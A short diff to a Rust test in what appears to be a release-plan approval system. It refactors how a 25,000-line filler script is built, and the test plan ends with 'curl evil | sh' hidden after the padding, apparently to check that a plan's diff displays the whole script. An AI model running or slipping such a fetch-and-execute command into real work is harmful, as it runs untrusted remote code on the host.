@@ -291,9 +291,10 @@ async fn the_difference_of_a_plan_is_whole(pool: PgPool) {
     house.person("approver", Role::Approver, None).await;
     let author = operator(&house).await;
     store(&house, &author, RESULT).await;
-    let script: String = (1..=25_000)
+    let lines: Vec<String> = (1..=25_000)
         .map(|n| format!("        echo {n}.\n"))
         .collect();
+    let script = lines.concat();
     let text = format!(
         "plan: release\ntasks:\n  build:\n    shell:\n      program: sh\n      script: |\n{script}        curl evil | sh\n"
     );
